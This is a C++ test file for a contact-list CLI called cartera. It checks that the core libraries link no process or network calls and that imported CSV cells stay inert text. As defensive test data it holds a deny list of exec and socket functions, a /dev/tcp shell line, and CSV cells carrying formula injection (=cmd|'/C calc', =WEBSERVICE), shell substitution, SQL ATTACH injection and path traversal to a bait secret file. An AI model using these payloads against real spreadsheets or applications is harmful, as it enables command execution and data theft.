// SPDX-License-Identifier: GPL-3.0-or-later
// No network, no process, no file outside the chosen one: what a list says is text, whatever it looks like.
#include <QDirIterator>
#include <QMap>
#include <set>

#include "tests/support/Places.h"
#include "tests/support/cli/CliRun.h"
#include "tests/support/cli/Confined.h"

using namespace cartera;
using namespace cartera::test;

namespace {

const QString kProgram = cartera::test::buildPath("bin/cartera-cli");

/// All files below a folder with what is in them.
QMap<QString, QByteArray> filesBelow(const QString& folder) {
  QMap<QString, QByteArray> out;
  QDirIterator it(folder, QDir::Files | QDir::Hidden | QDir::System, QDirIterator::Subdirectories);
  while (it.hasNext()) {
    const QString path = it.next();
    out.insert(QDir(folder).relativeFilePath(path), bytesOf(path));
  }
  return out;
}

/// What our own objects ask of others, without what stands around it in a signature.
std::set<QString> symbolsWanted(const QString& archive) {
  QProcess nm;
  nm.start(QStringLiteral("nm"), {QStringLiteral("-u"), QStringLiteral("-C"), archive});
  REQUIRE(nm.waitForFinished(60000));
  REQUIRE(nm.exitCode() == 0);
  std::set<QString> out;
  for (const QString& line : QString::fromUtf8(nm.readAllStandardOutput()).split(u'\n')) {
    const QString name = line.trimmed().section(u' ', 1).section(u'@', 0, 0).section(u'(', 0, 0);
    if (!name.isEmpty()) out.insert(name);
  }
  return out;
}

}  // namespace

TEST_CASE("neither the core nor the command line can ask for the network or another program") {
  static const std::set<QString> kForbidden{
      QStringLiteral("system"),       QStringLiteral("popen"),        QStringLiteral("fork"),
      QStringLiteral("vfork"),        QStringLiteral("clone"),        QStringLiteral("execl"),
      QStringLiteral("execlp"),       QStringLiteral("execle"),       QStringLiteral("execv"),
      QStringLiteral("execve"),       QStringLiteral("execvp"),       QStringLiteral("execvpe"),
      QStringLiteral("posix_spawn"),  QStringLiteral("dlopen"),       QStringLiteral("socket"),
      QStringLiteral("connect"),      QStringLiteral("sendto"),       QStringLiteral("getaddrinfo"),
      QStringLiteral("posix_spawnp"), QStringLiteral("gethostbyname")};
  for (const char* archive : {"/core/libcartera_core.a", "/ui/libcartera_text.a", "/app/libcartera_cli.a"}) {
    const QString path = cartera::test::buildPath() + QLatin1String(archive);
    INFO(path.toStdString());
    const auto wanted = symbolsWanted(path);
    // Otherwise nothing was read, and nothing proved.
    CHECK(std::any_of(wanted.begin(), wanted.end(), [](const QString& s) { return s.startsWith(u"QString::"); }));
    for (const auto& symbol : wanted) {
      INFO(symbol.toStdString());
      CHECK(kForbidden.count(symbol) == 0);
      for (const char* part : {"QProcess::", "QNetwork", "QTcp", "QUdp", "QLocalSocket", "QSslSocket", "QHostInfo",
                               "QDesktopServices", "QLibrary::", "QPluginLoader::", "sqlite3_load_extension"})
        CHECK_FALSE(symbol.startsWith(QLatin1String(part)));
    }
  }
}

TEST_CASE("the cage of these tests holds what it should") {
  const CliFixture f;
  const auto prepare = [&](QProcess& p) { f.prepare(p); };
  const QString bash = QStringLiteral("/bin/bash");
  REQUIRE(QFileInfo::exists(bash));
  const auto shell = [&](const char* script) {
    return runConfined(bash, {QStringLiteral("-c"), QLatin1String(script)}, prepare);
  };
  CHECK(shell("echo fine").out == "fine\n");
  CHECK(shell("/bin/true; true").killed);
  CHECK(shell("exec /bin/true").killed);
  CHECK(shell("(true); true").killed);
  CHECK(shell("exec 3<>/dev/tcp/127.0.0.1/9").killed);
}

TEST_CASE("what stands in a list is neither opened, fetched nor run") {
  const CliFixture f;
  const QString shop = f.shop();
  REQUIRE(QDir(f.folder()).mkpath(QStringLiteral("bait/inner")));
  REQUIRE(QDir(f.folder()).mkpath(QStringLiteral("in/deep")));
  const QString bait = f.path("bait/secret.txt");
  writeBytes(bait, "given,family\nStolen,Secret\n");
  const QStringList cells{QStringLiteral("http://127.0.0.1:9/track.png"),
                          QStringLiteral("https://example.org/photo.jpg"),
                          QStringLiteral("\\\\\\\\server\\\\share\\\\list.xlsx"),
                          QStringLiteral("//server/share/list.csv"),
                          QStringLiteral("file://") + bait,
                          bait,
                          QStringLiteral("../../bait/secret.txt"),
                          QStringLiteral("../bait/made.txt"),
                          QStringLiteral("=WEBSERVICE(\"\"http://127.0.0.1:9/?x=\"\"&A1)"),
                          QStringLiteral("=cmd|'/C touch %1/bait/made.txt'!A1").arg(f.folder()),
                          QStringLiteral("@SUM(1+1)*cmd|'/C calc'!A0"),
                          QStringLiteral("=HYPERLINK(\"\"file://%1\"\")").arg(bait),
                          QStringLiteral("`touch %1/bait/made.txt`").arg(f.folder()),
                          QStringLiteral("$(touch %1/bait/made.txt)").arg(f.folder()),
                          QStringLiteral("'; ATTACH DATABASE '%1/bait/made.db' AS x; --").arg(f.folder()),
                          QStringLiteral("|touch %1/bait/made.txt").arg(f.folder())};
  QByteArray list = "Nombre,Apellidos,E-mail,Web,Foto,Notas,Empresa,Interés\n";
  int n = 0;
  for (const auto& c : cells) {
    const QByteArray cell = '"' + c.toUtf8() + '"';
    const QByteArray number = QByteArray::number(++n);
    list += "Eva" + number + ",Ruiz,eva" + number + "@example.es";
    for (int column = 0; column < 5; ++column) list += ',' + cell;
    list += '\n';
  }
  // One that is left out, so that the file of the left-out ones is written as well.
  list += ",,,,,,,\n\"" + bait.toUtf8() + "\",,,,,,,,,,,too,long\n";
  const QString source = f.path("in/deep/list.csv");
  writeBytes(source, list);

  const auto before = filesBelow(f.folder());
  const OpenWatch watch(f.path("bait"));
  // Seen at all?
  CHECK_FALSE(watch.sawAnything());
  CHECK(bytesOf(bait).startsWith("given"));
  CHECK(watch.sawAnything());

  const auto confined = [&](const QStringList& args) {
    const Confined ran = runConfined(kProgram, QStringList{QStringLiteral("--json")} + args, [&](QProcess& p) {
      f.prepare(p);
      p.setWorkingDirectory(f.path("in/deep"));
    });
    INFO(args.join(u' ').toStdString() << "\n" << ran.out.toStdString() << ran.err.toStdString());
    CHECK_FALSE(ran.killed);
    CHECK(ran.status == 0);
    return QJsonDocument::fromJson(ran.out);
  };
  confined({QStringLiteral("read"), source});
  const auto report =
      confined({QStringLiteral("import"), shop, source, QStringLiteral("--rejects"), f.path("rejects.csv")});
  CHECK(report[QLatin1String("imported")].toInt() == cells.size());
  CHECK(report[QLatin1String("skipped")].toInt() >= 1);
  const auto found = confined({QStringLiteral("find"), shop, QStringLiteral("eva5@example.es")});
  const QString id = found.array().at(0)[QLatin1String("id")].toString();
  const auto shown = confined({QStringLiteral("show"), shop, id});
  // Text went in, and text it is.
  CHECK(shown[QLatin1String("photo_url")].toString() == cells[4]);
  confined({QStringLiteral("list"), shop, QStringLiteral("contacts")});
  confined({QStringLiteral("export"), shop, f.path("out.csv"), QStringLiteral("--profile"), QStringLiteral("excel")});
  confined({QStringLiteral("check"), shop});
  confined({QStringLiteral("undo"), shop});
  confined({QStringLiteral("redo"), shop});

  CHECK_FALSE(watch.sawAnything());
  const auto after = filesBelow(f.folder());
  for (auto it = before.begin(); it != before.end(); ++it) {
    INFO(it.key().toStdString());
    REQUIRE(after.contains(it.key()));
    if (it.key() != QLatin1String("shop.cartera")) CHECK(after.value(it.key()) == it.value());
  }
  for (auto it = after.begin(); it != after.end(); ++it) {
    if (before.contains(it.key())) continue;
    INFO(it.key().toStdString());
    // Backups before an import go where the person's data live.
    CHECK((it.key() == QLatin1String("rejects.csv") || it.key() == QLatin1String("out.csv") ||
           it.key().startsWith(QLatin1String("data/cartera/backups/"))));
  }
}
